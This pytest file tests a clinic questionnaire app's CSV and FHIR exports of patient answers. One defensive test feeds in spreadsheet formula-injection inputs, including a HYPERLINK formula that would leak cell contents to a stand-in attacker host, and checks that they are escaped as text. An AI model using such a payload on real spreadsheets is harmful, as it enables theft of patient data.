"""Exports a clinic opens elsewhere: the CSV in a spreadsheet, FHIR in a patient record system."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta

import pytest
import sqlalchemy as sa

# fhir.resources 8 offers FHIR R5 at the top level and R4B and STU3 as
# subpackages, but no plain R4. R4B (4.3.0) changed other resources, not
# Questionnaire or QuestionnaireResponse, so its models check our R4 JSON.
from fhir.resources.R4B.questionnaireresponse import QuestionnaireResponse

from app.clinician.exports import FIRST_COLUMNS, LAST_COLUMNS, questionnaire, questionnaire_response, submissions_csv
from app.content.versions import versions
from app.extensions import db
from app.models import AnswerSet
from export_helpers import BASE_URL, VALUE_OF_TYPE, answers_of, by_link_id, read_csv
from journey_helpers import complete_all_sections, live, start, submit
from support import check_page

pytestmark = pytest.mark.both_databases  # storage: runs on SQLite and PostgreSQL

BREAST = "breast-interstitial-laser-therapy"
LIVER = "liver-laser-ablation"
ABOUT_ANN = {
    "name": "Ann Example", "nhs_number": "943 476 5919", "companion": "yes",
    "interpreter": "spoken", "language": "Welsh", "support_needs": "Large print, please",
}


def own_question_ids(client) -> list[str]:
    """The ids the patient's own questions were given, as the top questions page offers them."""
    page = check_page(client.get("/questions/most-important"))
    return [box["value"] for box in page.select("input[name=top]") if box["value"].startswith("own-")]


def send(client) -> None:
    submit(client, "/check-answers", status=302)


def answer_sets(app) -> list[AnswerSet]:
    with app.app_context():
        return list(db.session.scalars(sa.select(AnswerSet).order_by(AnswerSet.id)))


def sent_answer_set(app, client, slug: str) -> AnswerSet:
    """A patient who answered everything, as complete_all_sections does, and sent it."""
    start(client, slug)
    complete_all_sections(client, slug, app)
    send(client)
    return answer_sets(app)[-1]


def export_text(app) -> str:
    """The CSV as the export view makes it: each set with its own version and the one patients are on now."""
    with app.app_context():
        live_now = {v.slug: v for v in versions().live()}
        rows = [(a, versions().of(a), live_now.get(a.procedure_slug)) for a in answer_sets(app)]
        return submissions_csv(rows, live_now.values())


def export_rows(app) -> list[dict[str, str]]:
    return read_csv(export_text(app))


# CSV


def test_csv_headers_name_the_set_then_each_answer_then_what_needs_explaining(app, client):
    sent_answer_set(app, client, LIVER)
    headers = next(csv.reader(io.StringIO(export_text(app), newline="")))
    assert headers[:len(FIRST_COLUMNS)] == list(FIRST_COLUMNS)
    assert headers[-len(LAST_COLUMNS):] == list(LAST_COLUMNS)
    middle = headers[len(FIRST_COLUMNS):-len(LAST_COLUMNS)]
    assert middle[:3] == ["Name", "NHS number", "Appointment date"] and middle[-1] == "SURE score"


def test_csv_has_a_row_for_each_patient_with_what_a_clinician_looks_for(app):
    for slug in (BREAST, LIVER):
        sent_answer_set(app, app.test_client(), slug)
    stored = answer_sets(app)
    rows = export_rows(app)
    assert len(rows) == 2

    for row, answer_set in zip(rows, stored, strict=True):
        version = live(app, answer_set.procedure_slug)
        procedure = version.procedure
        questions = procedure.all_questions
        assert row["Reference"] == answer_set.reference
        assert row["Procedure"] == procedure.title
        assert row["Status"] == "Not reviewed" and row["Reviewed"] == ""
        assert row["Sent"] == answer_set.submitted_at.isoformat(timespec="seconds") + "Z"
        assert (row["Information version"], row["Information updated since sent"]) == (version.version, "No")
        assert (row["Name"], row["NHS number"], row["Appointment date"]) == ("Ann Example", "943 476 5919", "")
        assert (row["Interpreter"], row["Language"], row["Someone coming with you"]) == (
            "Spoken language", "Welsh", "Yes")
        assert (row["Information in another format"], row["Other support"]) == ("Large print", "A hearing loop, please")
        # The person coming with them: in columns of their own, never among the patient's.
        assert row["Questions from the person coming with you"] == "Can I stay with her afterwards?"
        assert row["What worries the person coming with you"] == "How she will get home."
        decision = (row["SURE score"], row["Which way you are leaning"], row["How you want to decide"])
        assert decision == ("3", "Not sure yet", "Together with my clinician")
        assert row["The questions that matter most"] == f"{questions[0].text} | {questions[-1].text}"
        assert row["Questions you want to ask"] == (
            f"{questions[0].text} (note: My note about this) | {questions[-1].text}")
        assert row["Your own questions"] == "Can my daughter come in with me?"
        assert row["Your views and concerns"] == "I am worried about pain."
        assert row["Consent points to explain"] == procedure.all_consent_points[0].text
        assert row["What matters"] == " | ".join(f"{s.text}: Very important" for s in procedure.what_matters)


def test_csv_shows_when_an_answer_set_was_reviewed(app, client):
    sent_answer_set(app, client, BREAST)
    with app.app_context():
        answer_set = db.session.scalars(sa.select(AnswerSet)).one()
        answer_set.reviewed_at = datetime(2027, 3, 1, 9, 30, 5)
        db.session.commit()
    [row] = export_rows(app)
    assert (row["Status"], row["Reviewed"]) == ("Reviewed", "2027-03-01T09:30:05Z")


def test_csv_leaves_unanswered_cells_blank(app, client):
    start(client, LIVER)
    complete_all_sections(client, LIVER, app)
    submit(client, "/about-you", {}, status=302)  # every optional answer left out
    submit(client, "/questions", {}, status=302)  # and no questions chosen
    submit(client, "/questions/most-important", {}, status=302)
    send(client)
    [row] = export_rows(app)
    for header in ("Name", "Interpreter", "Language", "Someone coming with you", "Other support",
                   "The questions that matter most", "Questions you want to ask", "Your own questions"):
        assert row[header] == "", header


@pytest.mark.parametrize("slug", [BREAST, LIVER])
def test_csv_cells_that_look_like_formulas_stay_text(app, client, slug):
    procedure = live(app, slug).procedure
    start(client, slug)
    complete_all_sections(client, slug, app)
    submit(client, "/about-you", {**ABOUT_ANN, "name": "-2", "support_needs": "+1"}, status=302)
    submit(client, "/questions", {"own-0-text": "@SUM(A1)"}, status=302)
    submit(client, "/questions/most-important", {"top": own_question_ids(client)}, status=302)
    submit(client, "/what-matters", {
        **{f"rate_{s.id}": "quite" for s in procedure.what_matters},
        "views": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    }, status=302)
    send(client)
    [row] = export_rows(app)
    assert row["Name"] == "'-2"
    assert row["Other support"] == "'+1"
    assert row["Your own questions"] == row["The questions that matter most"] == "'@SUM(A1)"
    assert row["Your views and concerns"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    assert row["NHS number"] == "943 476 5919"  # ordinary text is untouched


@pytest.mark.parametrize("slug", [BREAST, LIVER])
def test_csv_keeps_newlines_commas_quotes_and_emoji_in_patient_text(app, client, slug):
    procedure = live(app, slug).procedure
    views = 'First, the pain.\r\nThen "recovery", and getting home 😟 👍🏽'
    own = 'Can I drive, or "should" I get a lift?'
    start(client, slug)
    complete_all_sections(client, slug, app)
    submit(client, "/questions", {"own-0-text": own}, status=302)
    submit(client, "/questions/most-important", {"top": own_question_ids(client)}, status=302)
    submit(client, "/what-matters", {**{f"rate_{s.id}": "not" for s in procedure.what_matters}, "views": views},
           status=302)
    send(client)
    sent_answer_set(app, app.test_client(), slug)  # a second row after it, so a broken quote would show
    rows = export_rows(app)
    assert len(rows) == 2
    assert rows[0]["Your views and concerns"] == views
    assert rows[0]["Your own questions"] == own
    assert rows[1]["Your views and concerns"] == "I am worried about pain."


# FHIR


@pytest.mark.parametrize("slug", [BREAST, LIVER])
def test_response_is_valid_fhir_and_cites_the_version_the_patient_saw(app, client, slug):
    answer_set = sent_answer_set(app, client, slug)
    version = live(app, slug)
    resource = questionnaire_response(answer_set, version, BASE_URL)
    parsed = QuestionnaireResponse.model_validate(resource)
    assert parsed.status == "completed"
    assert parsed.questionnaire == f"{BASE_URL}/fhir/Questionnaire/{slug}|{version.version}"
    assert (parsed.identifier.system, parsed.identifier.value) == (f"{BASE_URL}/fhir/reference", answer_set.reference)
    assert resource["authored"] == answer_set.submitted_at.isoformat(timespec="seconds") + "Z"


@pytest.mark.parametrize("slug", [BREAST, LIVER])
def test_every_answer_fits_the_question_it_answers(app, client, slug):
    version = live(app, slug)
    appointment = date.today() + timedelta(days=30)
    start(client, slug)
    complete_all_sections(client, slug, app)
    submit(client, "/about-you", {**ABOUT_ANN, "appointment_date[day]": str(appointment.day),
                                  "appointment_date[month]": str(appointment.month),
                                  "appointment_date[year]": str(appointment.year)}, status=302)
    send(client)
    response = questionnaire_response(answer_sets(app)[0], version, BASE_URL)
    asked = by_link_id(questionnaire(version, BASE_URL, live=True)["item"])

    for link_id, item in by_link_id(response["item"]).items():
        assert link_id in asked, link_id
        question = asked[link_id]
        assert item["text"] == question["text"]
        if question["type"] == "group":
            assert item["item"] and "answer" not in item, link_id
            continue
        assert item["answer"], f"{link_id} has an empty answer list"
        assert len(item["answer"]) == 1 or question.get("repeats"), link_id
        for answer in item["answer"]:
            assert list(answer) == [VALUE_OF_TYPE[question["type"]]], link_id
            if question["type"] == "choice":
                assert answer["valueCoding"] in [o["valueCoding"] for o in question["answerOption"]], link_id
    assert answers_of(response)["appointment_date"] == [{"valueDate": appointment.isoformat()}]


@pytest.mark.parametrize("slug", [BREAST, LIVER])
def test_response_holds_what_the_patient_said(app, client, slug):
    version = live(app, slug)
    procedure = version.procedure
    questions = procedure.all_questions
    response = questionnaire_response(sent_answer_set(app, client, slug), version, BASE_URL)
    answers = answers_of(response)
    assert answers["name"] == [{"valueString": "Ann Example"}]
    assert answers["interpreter"][0]["valueCoding"]["display"] == "Spoken language"
    assert answers["language"] == [{"valueString": "Welsh"}]
    assert [a["valueCoding"]["code"] for a in answers["formats"]] == ["large-print"]
    assert answers["companion_questions"] == [{"valueString": "Can I stay with her afterwards?"}]
    assert "appointment_date" not in answers  # left blank
    assert answers["read_procedure"] == answers["read_benefits_risks"] == [{"valueBoolean": True}]
    assert answers[f"ask_{questions[0].id}"] == [{"valueBoolean": True}]
    assert answers[f"ask_{questions[1].id}"] == [{"valueBoolean": False}]
    assert answers[f"note_{questions[0].id}"] == [{"valueString": "My note about this"}]
    assert f"note_{questions[-1].id}" not in answers  # chosen without a note
    assert answers["top"] == [{"valueString": questions[0].text}, {"valueString": questions[-1].text}]
    assert answers["own"] == [{"valueString": "Can my daughter come in with me?"}]
    assert answers[f"point_{procedure.all_consent_points[0].id}"][0]["valueCoding"]["code"] == "explain"
    assert answers["sure_sure"][0]["valueCoding"]["code"] == "no"
    assert answers["sure_score"] == [{"valueInteger": 3}]


def test_response_leaves_out_a_section_the_patient_left_empty(app, client):
    start(client, LIVER)
    complete_all_sections(client, LIVER, app)
    submit(client, "/about-you", {}, status=302)  # Continue with every box left empty
    send(client)
    response = questionnaire_response(answer_sets(app)[0], live(app, LIVER), BASE_URL)
    QuestionnaireResponse.model_validate(response)
    assert "about_you" not in [item["linkId"] for item in response["item"]]
    assert answers_of(response)["sure_score"] == [{"valueInteger": 3}]


def test_unsent_answers_have_no_response(app, client):
    start(client, BREAST)
    complete_all_sections(client, BREAST, app)
    answer_set = answer_sets(app)[0]
    with pytest.raises(ValueError, match="not been sent"):
        questionnaire_response(answer_set, live(app, BREAST), BASE_URL)
